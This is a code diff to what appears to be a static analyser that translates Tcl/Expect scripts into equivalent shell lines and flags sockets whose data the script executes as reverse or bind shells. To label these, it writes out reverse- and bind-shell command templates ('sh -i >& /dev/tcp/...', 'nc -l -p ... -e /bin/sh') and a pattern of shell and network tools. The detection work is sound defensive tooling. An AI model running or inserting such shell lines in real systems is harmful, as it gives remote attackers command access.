@@ -11,7 +11,18 @@ import { shellQuote } from "./quote.ts";
 
 type Word = { text: string; known: boolean };
 
-type Context = { reading: CodeReading; expect: boolean; spawnedShell: boolean; depth: number };
+/**
+ * `sockets`: where the script connects or listens; `runsUnknown`: it runs a command or script only the run knows
+ * (`exec $c`, `eval $e`) — with a socket, what it runs is what the other end sends: a reverse or bind shell.
+ */
+type Context = {
+  reading: CodeReading;
+  expect: boolean;
+  spawnedShell: boolean;
+  depth: number;
+  sockets: { host?: string; port: string }[];
+  runsUnknown: boolean;
+};
 
 const SHELLS = /^(?:\/\S*\/)?(?:ba|z|da|k|c|tc|fi)?sh$|^(?:\/\S*\/)?(?:ssh|telnet|nc|su|sudo)$/;
 const MAX_DEPTH = 8;
@@ -25,9 +36,15 @@ export function readExpect(script: string): CodeReading {
 }
 
 function readScript(script: string, expect: boolean): CodeReading {
-  const context: Context = { reading: emptyReading(), expect, spawnedShell: false, depth: 0 };
+  const context: Context = { reading: emptyReading(), expect, spawnedShell: false, depth: 0, sockets: [], runsUnknown: false };
   readCommands(script, context);
+  if (context.runsUnknown) for (const socket of context.sockets) addLine(context.reading, socketShell(socket), "socket connected to a shell");
   return context.reading;
+}
+
+/** The shell line of a socket whose data the script runs: a reverse shell to host:port, or a bind shell on port. */
+function socketShell({ host, port }: { host?: string; port: string }): string {
+  return host === undefined ? `nc -l -p ${port} -e /bin/sh` : `sh -i >& /dev/tcp/${host}/${port} 0>&1`;
 }
 
 function readCommands(script: string, context: Context) {
@@ -48,12 +65,16 @@ function readCommand(words: Word[], context: Context) {
   const reading = context.reading;
   if (!name?.known) return;
   switch (name.text) {
-    case "exec":
-      return addLine(reading, shellLine(args.filter((word) => !/^-(?:keepnewline|ignorestderr|-)$/.test(word.text))), "exec");
+    case "exec": {
+      const command = args.filter((word) => !/^-(?:keepnewline|ignorestderr|-)$/.test(word.text));
+      // `exec $c`, or `exec sh -c $line`: a command only the run knows.
+      if (command[0] && (!command[0].known || (SHELLS.test(command[0].text) && command.some((word) => !word.known)))) context.runsUnknown = true;
+      return addLine(reading, shellLine(command), "exec");
+    }
     case "open":
       return readOpen(args, reading);
     case "socket":
-      return readSocket(args, reading);
+      return readSocket(args, context);
     case "file":
       return readFileCommand(args, reading);
     case "source":
@@ -69,6 +90,7 @@ function readCommand(words: Word[], context: Context) {
     case "after":
       // Their bodies are scripts: read every literal word that may be one.
       for (const word of args) if (word.known && /[\s;]/.test(word.text)) readCommands(word.text, context);
+      if ((name.text === "eval" || name.text === "uplevel") && args.some((word) => !word.known)) context.runsUnknown = true;
       return;
   }
   if (!context.expect) return;
@@ -103,12 +125,21 @@ function readOpen(args: Word[], reading: CodeReading) {
 }
 
 /** `socket host port` connects; `socket -server cmd port` listens. */
-function readSocket(args: Word[], reading: CodeReading) {
+function readSocket(args: Word[], context: Context) {
+  const reading = context.reading;
   const server = args.findIndex((word) => word.text === "-server");
   const plain = args.filter((word, index) => !word.text.startsWith("-") && (server < 0 || index > server + 1));
-  if (server >= 0) return addLine(reading, `nc -l -p ${port(plain.at(-1))}`, "socket -server");
+  if (server >= 0) {
+    context.sockets.push({ port: port(plain.at(-1)) });
+    // The command a server runs for each client is a script (`socket -server {accept} 4444`).
+    const handler = args[server + 1];
+    if (handler?.known && /[\s;]/.test(handler.text)) readCommands(handler.text, context);
+    return addLine(reading, `nc -l -p ${port(plain.at(-1))}`, "socket -server");
+  }
   const [host, service] = plain.slice(-2);
-  if (host && service) addLine(reading, `nc ${host.known ? shellQuote(host.text) : UNKNOWN} ${port(service)}`, "socket");
+  if (!host || !service) return;
+  context.sockets.push({ host: host.known ? shellQuote(host.text) : UNKNOWN, port: port(service) });
+  addLine(reading, `nc ${host.known ? shellQuote(host.text) : UNKNOWN} ${port(service)}`, "socket");
 }
 
 function port(word: Word | undefined): string {
